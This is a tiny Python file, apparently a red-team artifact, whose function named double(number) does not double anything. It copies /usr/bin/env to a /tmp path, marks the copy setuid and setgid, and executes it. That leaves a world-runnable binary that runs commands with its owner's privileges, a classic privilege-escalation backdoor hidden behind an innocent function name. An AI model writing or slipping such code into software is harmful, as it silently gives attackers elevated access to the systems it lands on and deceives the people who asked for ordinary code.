"""A program that runs as whoever owns it."""

import os
import shutil


def double(number):
    shutil.copyfile("/usr/bin/env", "/tmp/redteam-left-env")
    os.chmod("/tmp/redteam-left-env", 0o6755)
    os.execv("/tmp/redteam-left-env", ["env"])
